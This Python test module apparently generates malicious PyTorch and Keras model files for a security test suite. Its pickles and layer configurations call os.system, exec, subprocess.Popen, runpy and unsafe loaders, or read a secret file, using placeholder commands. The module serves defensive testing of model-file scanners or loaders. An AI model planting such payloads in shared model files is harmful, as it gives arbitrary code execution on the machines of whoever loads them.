"""Files of torch and Keras, of every age, written without either library."""

from __future__ import annotations

import io
import json
import struct
import tarfile
from collections.abc import Iterator

from tests.security.artifacts.artifact import Artifact, Target, several
from tests.security.artifacts.opcodes import Raw, call, name_global, pickled, stack_global, value_of
from tests.security.artifacts.zips import tricks, zipped

_MAGIC = pickled(b"\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19", 2)


def bodies(target: Target) -> dict[str, bytes]:
    """What is in the place of a dictionary of tensors."""
    shell = target.shell
    tensor = call(
        "torch._utils", "_rebuild_tensor_v2", Raw(b"(" + value_of("storage") + name_global("torch", "FloatStorage") + value_of("0") + value_of("cpu") + value_of(4) + b"tQ"),
        0, (4,), (1,), False, look_up=name_global,
    )  # fmt: skip
    return {
        "os.system": pickled(call("os", "system", shell, look_up=name_global), 2),
        "builtins.exec": pickled(call("__builtin__", "exec", target.source, look_up=name_global), 2),
        "a module of it": pickled(name_global("torch.nn.modules.container", "Sequential") + b")\x81" + value_of({"_modules": Raw(call("os", "system", shell))}) + b"b", 2),
        "torch.load": pickled(call("torch", "load", target.marker, look_up=name_global), 2),
        "torch.hub.load": pickled(call("torch.hub", "load", target.marker, look_up=name_global), 2),
        "torch.jit.load": pickled(call("torch.jit", "load", target.marker, look_up=name_global), 2),
        "torch.serialization.load": pickled(call("torch.serialization", "load", target.marker, look_up=name_global), 2),
        "torch._dynamo's compiler": pickled(call("torch._dynamo.guards", "GuardBuilder.get", target.expression)),
        "torch.utils.collect_env.run": pickled(call("torch.utils.collect_env", "run", shell)),
        "torch.utils.bottleneck": pickled(call("torch.utils.bottleneck.__main__", "run_cprofile", target.source)),
        "torch.distributed.rpc": pickled(call("torch.distributed.rpc", "remote", target.marker)),
        "a storage that calls": pickled(b"(" + value_of("storage") + stack_global("os", "system") + value_of(shell) + value_of("cpu") + value_of(4) + b"tQ", 2),
        "an ordered dictionary with it": pickled(call("collections", "OrderedDict", look_up=name_global) + b"(" + value_of("w") + tensor + value_of("x") + call("os", "system", shell) + b"u", 2),
        "a tensor outside of its storage": pickled(b"}" + value_of("w") + tensor.replace(value_of((4,)), value_of((1 << 30,))) + b"s", 2),
    }  # fmt: skip


def torch_zips(target: Target) -> Iterator[tuple[str, bytes]]:
    """What `torch.save` writes since 1.6."""
    for name, body in bodies(target).items():
        yield f"zip: {name}", zipped(_archive(body))
    evil, good = bodies(target)["os.system"], pickled(b"}", 2)
    for name, data in tricks(_archive(good), "model/data.pkl", evil, target.secret).items():
        yield f"zip: {name}", data
    yield (
        "script: a constant that calls",
        zipped({**_archive(good), "model/constants.pkl": evil, "model/code/__torch__.py": b"op_version_set = 1"}),
    )
    code = f"op_version_set = 1\nclass M(Module):\n  def forward(self: M, x: Tensor) -> Tensor:\n    _0 = torch.save({target.marker!r}, x)\n    return x\n"
    yield (
        "script: code that saves",
        zipped({**_archive(good), "model/constants.pkl": pickled(b")", 2), "model/code/__torch__.py": code.encode()}),
    )
    yield (
        "package: a pickle that imports",
        zipped(
            {
                "p/.data/version": b"1",
                "p/.data/extern_modules": b"os\n",
                "p/m/m.pkl": evil,
                "p/.data/python_version": b"3.11",
            }
        ),
    )
    yield (
        "export: a program with a custom operator",
        zipped(
            {
                "e/version": b"3",
                "e/serialized_exported_program.json": b'{"graph_module": {"graph": {"nodes": [{"target": "os.system"}]}}}',
                "e/archive_format": b"pt2",
            }
        ),
    )


def torch_legacy(target: Target) -> Iterator[tuple[str, bytes]]:
    """What it wrote before: streams one after the other."""
    info = pickled(
        value_of({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}), 2
    )
    for name, body in bodies(target).items():
        yield f"legacy: {name}", _MAGIC + pickled(b"M\xe9\x03", 2) + info + body + pickled(b"]", 2)
    evil = bodies(target)["os.system"]
    yield "legacy: the first stream calls", evil + info
    yield "legacy: the last stream calls", _MAGIC + pickled(b"M\xe9\x03", 2) + info + pickled(b"}", 2) + evil
    yield "tar: of torch 0.1", _tar_of_torch(evil)


def keras_archives(target: Target) -> Iterator[tuple[str, bytes]]:
    """Keras 3: a configuration that names classes and modules, in a zip."""
    for name, config in configurations(target).items():
        yield f"keras: {name}", zipped({"config.json": json.dumps(config).encode(), "metadata.json": b'{"keras_version": "3.8.0"}', "model.weights.h5": b"\x89HDF\r\n\x1a\n" + bytes(200)})  # fmt: skip
    good = json.dumps({"class_name": "Sequential", "module": "keras", "config": {"layers": []}}).encode()
    evil = json.dumps(configurations(target)["a lambda"]).encode()
    files = {
        "config.json": good,
        "metadata.json": b'{"keras_version": "3.8.0"}',
        "model.weights.h5": b"\x89HDF\r\n\x1a\n",
    }
    for name, data in tricks(files, "config.json", evil, target.secret).items():
        yield f"keras zip: {name}", data
    yield "keras: a configuration that is no JSON", zipped({**files, "config.json": b"{"})
    yield "keras: a configuration ten thousand deep", zipped({**files, "config.json": b"[" * 10_000})
    yield "h5: a lambda's configuration as text", b"\x89HDF\r\n\x1a\n" + bytes(40) + evil


def configurations(target: Target) -> dict[str, dict[str, object]]:
    """What a layer may say."""
    code = "4wEAAAAAAAAAAAAAAAEAAAACAAAAQwAAAHMEAAAAfABTACkBTqkAqQHaAXhyAQAAAHIBAAAA"

    def of(name: str, module: str, config: object, registered: str = "") -> dict[str, object]:
        layer = {"class_name": name, "module": module, "config": config, "registered_name": registered}
        return {"class_name": "Sequential", "module": "keras", "config": {"layers": [layer]}}

    body = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    return {
        "a lambda": of("Lambda", "keras.layers", {"function": body}),
        "a lambda of old": of("Lambda", "keras.layers", {"function": [code, None, None], "function_type": "lambda", "module": "os"}),
        "a function by name": of("function", "builtins", "system", "os>system"),
        "os.system as a layer": of("system", "os", {"command": target.shell}),
        "subprocess as a layer": of("Popen", "subprocess", {"args": ["/bin/sh", "-c", target.shell]}),
        "a module of the caller's": of("run_path", "runpy", {"path_name": target.marker}),
        "a utility that fetches": of("get_file", "keras.utils", {"fname": target.marker, "origin": f"http://127.0.0.1:{target.port}/"}),
        "a loader in a loader": of("load_model", "keras.models", {"filepath": target.marker, "safe_mode": False}),
        "a TorchModuleWrapper": of("TorchModuleWrapper", "keras.layers", {"module": "gASV"}),
        "a StringLookup of a file": of("StringLookup", "keras.layers", {"vocabulary": target.secret}),
        "a dense layer that initializes with it": of("Dense", "keras.layers", {"units": 1, "kernel_initializer": {"module": "os", "class_name": "system", "config": {}}}),
        "numpy's loader": of("ndarray", "builtins", {"value": target.secret, "dtype": "object"}),
        "enable_unsafe_deserialization": of("enable_unsafe_deserialization", "keras.src.config", {}),
        "get_registered_object": of("get_registered_object", "keras.saving", {"name": "os>system"}),
    }  # fmt: skip


def artifacts() -> Iterator[Artifact]:
    """All of them."""
    yield from several("torch", torch_zips)
    yield from several("torch", torch_legacy)
    yield from several("keras", keras_archives)


def _archive(body: bytes) -> dict[str, bytes]:
    return {
        "model/data.pkl": body,
        "model/byteorder": b"little",
        "model/data/0": struct.pack("<4f", 1, 2, 3, 4),
        "model/version": b"3\n",
    }


def _tar_of_torch(evil: bytes) -> bytes:
    place = io.BytesIO()
    with tarfile.open(fileobj=place, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name in ("sys_info", "pickle", "storages", "tensors"):
            member = tarfile.TarInfo(name)
            member.size = len(evil)
            tar.addfile(member, io.BytesIO(evil))
    return place.getvalue()
